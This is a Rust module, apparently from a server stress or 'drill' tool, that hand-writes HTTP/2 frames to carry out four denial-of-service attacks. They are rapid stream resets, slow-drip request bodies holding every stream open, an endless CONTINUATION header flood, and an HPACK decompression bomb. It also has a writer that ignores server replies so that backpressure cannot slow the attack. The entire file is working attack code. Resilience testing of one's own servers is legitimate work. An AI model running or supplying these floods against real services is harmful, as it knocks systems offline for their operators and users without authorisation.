//! HTTP/2 as no client of good will speaks it: frames written by hand.

use super::floods::{Hostile, Target};
use std::io::{ErrorKind, Result};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// CANCEL.
const CODE: [u8; 4] = [0, 0, 0, 8];
/// Streams of one connection have odd numbers below 2^31.
const STREAMS_MAX: u32 = 1 << 30;
/// Resets in one write: as fast as it goes. Less than the streams that a connection may have.
const BATCH: u32 = 100;
/// Between two streams with a body that comes slowly: a service is not to drown in connections before it has to wait.
const STREAM_PAUSE: Duration = Duration::from_millis(100);
/// Bytes of such a body and the time between two. Then it begins anew.
const DRIPS: u32 = 12;
const DRIP_PAUSE: Duration = Duration::from_secs(5);

/// Requests that are taken back as soon as they are sent.
pub(super) async fn reset(target: &Target, number: usize) -> Result<()> {
    let mut hostile = open(target, number).await?;
    for first in (0..STREAMS_MAX).step_by(100) {
        let mut bytes = Vec::new();
        for number in first..first + BATCH {
            put(&mut bytes, HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &block(&[]));
            put(&mut bytes, RST_STREAM, 0, number * 2 + 1, &CODE);
            target.note();
        }
        write(&mut hostile, &bytes).await?;
    }
    Ok(())
}

/// Requests whose bodies come byte by byte, all that one connection may have.
pub(super) async fn drip(target: &Target, number: usize) -> Result<()> {
    let mut hostile = open(target, number).await?;
    let head = block(&[("content-length", "1000000")]);
    for number in 0..BATCH {
        let mut bytes = Vec::new();
        put(&mut bytes, HEADERS, END_HEADERS, number * 2 + 1, &head);
        write(&mut hostile, &bytes).await?;
        tokio::time::sleep(STREAM_PAUSE).await;
    }
    for _ in 0..DRIPS {
        tokio::time::sleep(DRIP_PAUSE).await;
        let mut bytes = Vec::new();
        (0..BATCH).for_each(|number| put(&mut bytes, DATA, 0, number * 2 + 1, b"x"));
        write(&mut hostile, &bytes).await?;
        target.note();
    }
    Ok(())
}

/// One request whose headers have no end.
pub(super) async fn continue_for_ever(target: &Target, number: usize) -> Result<()> {
    let mut hostile = open(target, number).await?;
    let mut bytes = Vec::new();
    put(&mut bytes, HEADERS, END_STREAM, 1, &block(&[]));
    write(&mut hostile, &bytes).await?;
    let value = "y".repeat(120);
    let mut more = Vec::new();
    put(&mut more, CONTINUATION, 0, 1, &literals(&[("x", value.as_str()); 100]));
    loop {
        write(&mut hostile, &more).await?;
        target.note();
    }
}

/// Requests that name a header said once thousands of times (the HPACK bomb, CVE-2016-6581).
pub(super) async fn expand(target: &Target, number: usize) -> Result<()> {
    let mut hostile = open(target, number).await?;
    for number in 0..STREAMS_MAX {
        let mut bomb = block(&[]);
        bomb.extend([0x40, 1, b'x', 100]);
        bomb.extend([b'y'; 100]);
        bomb.extend([0x80 | 62; 10_000]);
        let mut bytes = Vec::new();
        put(&mut bytes, HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &bomb);
        write(&mut hostile, &bytes).await?;
        target.note();
    }
    Ok(())
}

async fn open(target: &Target, number: usize) -> Result<Hostile> {
    let mut hostile = target.connect(number).await?;
    let mut bytes = PREFACE.to_vec();
    put(&mut bytes, SETTINGS, 0, 0, &[]);
    hostile.stream.write_all(&bytes).await?;
    Ok(hostile)
}

/// Writes, and throws away what the other side says: an attacker is not held up by its own buffers.
async fn write(hostile: &mut Hostile, bytes: &[u8]) -> Result<()> {
    let (mut read, mut write) = hostile.stream.split();
    let mut said = [0; 4_096];
    let writing = write.write_all(bytes);
    let mut writing = std::pin::pin!(writing);
    loop {
        tokio::select! {
            biased;
            written = writing.as_mut() => return written,
            read = read.read(&mut said) => {
                if read? == 0 {
                    return Err(ErrorKind::UnexpectedEof.into());
                }
            }
        }
    }
}

fn put(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    bytes.extend([length[1], length[2], length[3], kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

/// The header block of a request.
fn block(more: &[(&str, &str)]) -> Vec<u8> {
    let usual = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "drill.test")];
    literals(&[&usual, more].concat())
}

/// Headers as HPACK has them without any table; none longer than 126 bytes.
fn literals(headers: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in headers {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap_or(0));
            block.extend(text.as_bytes());
        }
    }
    block
}
